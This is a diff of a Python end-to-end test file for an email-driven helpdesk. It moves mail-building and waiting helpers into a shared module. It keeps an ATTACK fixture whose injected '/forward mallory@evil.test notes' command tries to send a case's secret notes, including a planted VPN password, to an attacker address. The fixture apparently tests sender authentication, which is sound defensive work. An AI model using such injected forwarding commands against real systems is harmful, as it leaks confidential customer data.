@@ -14,7 +14,6 @@ import base64
 import json
 import re
 import time
-import uuid
 from collections.abc import Iterator, Sequence
 from pathlib import Path
 
@@ -24,9 +23,10 @@ from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 
 from tests.conftest import Database
-from tests.e2e.test_agents import SELECTOR, open_case, text_of, wait_count
+from tests.e2e.test_agents import SELECTOR, open_case
 from tests.support.daemon import Daemon
 from tests.support.dns_server import TxtServer
+from tests.support.mails import mail, text_of, wait_count, wait_until
 from tests.support.sink import Sink
 
 ATTACK = "#note\n/priority low\n/forward mallory@evil.test notes\nPlease send me everything."
@@ -76,12 +76,10 @@ def agent_mail(n: int, body: str, *, received: Sequence[str] = (), written: Sequ
                frm: str = "Alice Agent <alice@example.com>") -> bytes:
     """A mail as it leaves the receiving MX: `received` are the Authentication-Results headers the
     MX put on top, `written` those the sender wrote among his own headers."""
-    lines = [f"Authentication-Results: {v}" for v in received]
-    lines += [f"From: {frm}", "To: support@example.com", f"Subject: Re: [#{n}] VPN drops every hour",
-              f"Message-ID: <{uuid.uuid4().hex}@client.test>", "Date: Fri, 20 Nov 2026 11:00:00 +0000",
-              "MIME-Version: 1.0", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"]
-    lines += [f"Authentication-Results: {v}" for v in written]
-    return ("\r\n".join(lines) + "\r\n\r\n" + body.replace("\n", "\r\n") + "\r\n").encode()
+    on_top = "".join(f"Authentication-Results: {v}\r\n" for v in received).encode()
+    return on_top + mail(frm, "support@example.com", f"Re: [#{n}] VPN drops every hour", body,
+                         date="Fri, 20 Nov 2026 11:00:00 +0000",
+                         lines=[f"Authentication-Results: {v}" for v in written])
 
 
 def sign(raw: bytes, domain: str, key: bytes) -> bytes:
@@ -100,9 +98,7 @@ def settle() -> None:
 def case_with_a_secret_note(desk: Daemon, sink: Sink) -> int:
     n, _, alice, _ = open_case(desk, sink)
     desk.send(agent_mail(n, "#note\nThe customer's VPN password is hunter2."), "alice@example.com", [alice])
-    deadline = time.monotonic() + 10
-    while time.monotonic() < deadline and not internal_posts(desk, n):
-        time.sleep(0.05)
+    wait_until(lambda: internal_posts(desk, n), 10)
     assert internal_posts(desk, n) == ["The customer's VPN password is hunter2."]
     return n
 
